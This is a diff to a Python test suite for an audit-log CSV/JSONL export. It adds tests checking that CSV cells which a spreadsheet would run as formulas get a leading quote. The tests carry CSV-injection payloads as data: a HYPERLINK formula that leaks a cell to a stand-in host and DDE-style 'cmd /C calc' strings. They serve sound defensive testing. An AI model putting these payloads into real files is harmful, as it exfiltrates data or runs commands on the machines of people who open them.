@@ -8,18 +8,20 @@ import io
 import json
 import uuid
 
+import pytest
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
 
 from devgen.kit.auth.ed25519 import unb64url as _unb64url
 from devgen.services.audit.chain import HASHED_FIELDS
+from devgen.services.audit.export import csv_cell
 from tests.helpers import register
 from tests.services.audit.conftest import platform_admin, service_headers, team, wait_for_record
 
 
-async def _write_three(client, settings, tenant_id: str) -> None:
-    headers = await service_headers(client, settings)
+async def _write_three(client, settings, owner) -> None:
+    headers = await service_headers(client, settings, on_behalf=owner)
     for number in range(3):
-        body = {"action": "storage.file.read", "tenant_id": tenant_id, "data": {"n": number}}
+        body = {"action": "storage.file.read", "tenant_id": owner.tenant_id, "data": {"n": number}}
         assert (await client.post("/api/v1/audit/events", json=body, headers=headers)).is_success
 
 
@@ -31,7 +33,7 @@ def _recompute(document: dict, prev_hash: str) -> str:
 
 async def test_a_jsonl_export_can_be_verified_by_anyone_with_the_public_keys(client, settings):
     crew = await team(client)
-    await _write_three(client, settings, crew.tenant_id)
+    await _write_three(client, settings, crew.owner)
     response = await client.get(
         "/api/v1/audit/export",
         params={"format": "jsonl", "since": "2000-01-01T00:00:00Z"},
@@ -63,7 +65,7 @@ async def test_a_jsonl_export_can_be_verified_by_anyone_with_the_public_keys(cli
 
 async def test_a_csv_export_has_a_header_and_one_row_per_record(client, settings):
     crew = await team(client)
-    await _write_three(client, settings, crew.tenant_id)
+    await _write_three(client, settings, crew.owner)
     response = await client.get(
         "/api/v1/audit/export", params={"format": "csv"}, headers=crew.owner.headers
     )
@@ -107,3 +109,61 @@ async def test_the_report_counts_by_action_actor_and_outcome(client, platform):
     assert mine["failed_logins"] == 0  # failed sign-ins belong to no tenant
     assert mine["by_action"]["identity.api_key.created"] == 1
     assert mine["by_actor"][f"user:{account.user_id}"] == mine["total"]
+
+
+HOSTILE_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
+
+async def test_a_csv_export_carries_no_formula_in_any_cell(client, platform, settings):
+    account = await register(client)
+    signed_in = await client.post(
+        "/api/v1/auth/login",
+        json={"email": account.email, "password": account.password},
+        headers={"User-Agent": HOSTILE_AGENT},
+    )
+    assert signed_in.status_code == 200, signed_in.text
+    await wait_for_record(platform, action="identity.login.succeeded", user_agent=HOSTILE_AGENT)
+    hostile = {
+        "actor": "+cmd|' /C calc'!A0",
+        "resource_id": "-2+3+cmd|' /C calc'!A0",
+        "ip": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "request_id": "'=quoted already",
+        "user_agent": "=1+1",
+    }
+    body = {"action": "storage.file.read", "tenant_id": account.tenant_id, **hostile}
+    headers = await service_headers(client, settings, on_behalf=account)
+    assert (await client.post("/api/v1/audit/events", json=body, headers=headers)).is_success
+    response = await client.get(
+        "/api/v1/audit/export", params={"format": "csv"}, headers=account.headers
+    )
+    assert response.status_code == 200, response.text
+    rows = list(csv.reader(io.StringIO(response.text)))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    header, *records = rows
+    by_column = [dict(zip(header, row, strict=True)) for row in records]
+    logins = [r["user_agent"] for r in by_column if r["action"] == "identity.login.succeeded"]
+    assert "'" + HOSTILE_AGENT in logins
+    [written] = [r for r in by_column if r["action"] == "storage.file.read"]
+    # One leading quote dropped gives every value back.
+    assert {name: written[name][1:] for name in hostile} == hostile
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'x", "''x"),
+        ("a=1", "a=1"),
+        (None, ""),
+        (7, "7"),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, cell):
+    assert csv_cell(value) == cell
